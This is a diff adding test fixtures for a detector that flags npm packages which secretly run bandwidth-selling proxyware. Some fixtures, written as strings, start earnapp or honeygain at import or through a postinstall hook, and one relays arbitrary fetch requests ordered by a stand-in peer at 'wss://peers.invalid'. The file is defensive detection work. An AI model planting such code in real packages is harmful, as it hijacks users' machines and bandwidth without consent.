@@ -2,14 +2,41 @@ import { examine } from '../../../test/examine.ts';
 import { sellsBandwidth } from './sells-bandwidth.ts';
 
 const CP = `const cp = require('child_process'), fs = require('fs'), os = require('os'), path = require('path');`;
+const SOCKET = `const WebSocket = require('ws'); const ws = new WebSocket('wss://peers.invalid');`;
 const hook = (command: string): object => ({ name: 'specimen', scripts: { postinstall: command } });
 
 examine(sellsBandwidth, {
   speaks: [
     { when: 'it is started at import', files: { 'index.js': `${CP} cp.spawn('./earnapp', ['start'])` }, weight: 'proof' },
     { when: 'by a hook', files: { 'package.json': hook('chmod +x honeygain && ./honeygain -tou-accept') }, weight: 'proof' },
+    {
+      when: 'a peer of its own orders what is asked for',
+      files: {
+        'index.js': `${SOCKET} async function ask({ url, method }) { const r = await fetch(url, { method }); return { status: r.status, body: await r.text() }; }
+          ws.on('message', async text => { const { id, data } = JSON.parse(text); ws.send(JSON.stringify({ id, result: await ask(data) })); });`,
+      },
+      weight: 'strong',
+      says: ['peers.invalid orders'],
+    },
   ],
   silent: [
+    {
+      when: 'a socket of its own tells which of its pages to ask for',
+      files: {
+        'index.js': `${SOCKET} ws.on('message', async text => ws.send(await (await fetch('https://api.invalid/' + JSON.parse(text).page)).text()));`,
+      },
+    },
+    {
+      when: 'the answer is shown and goes nowhere',
+      files: { 'index.js': `${SOCKET} ws.on('message', async text => console.log(await (await fetch(JSON.parse(text).url)).text()));` },
+    },
+    {
+      when: 'the user names the peer',
+      files: {
+        'index.js': `const WebSocket = require('ws'); exports.join = peer => { const ws = new WebSocket(peer); ws.on('message', async text => ws.send(await (await fetch(JSON.parse(text).url)).text())); };`,
+      },
+    },
+
     { when: 'a proxy of its own is started', files: { 'index.js': `${CP} exports.serve = () => cp.spawn('proxy', ['--port', '8080'])` } },
     { when: 'a list names it', files: { 'index.js': `module.exports = ['earnapp', 'honeygain'];` } },
   ],
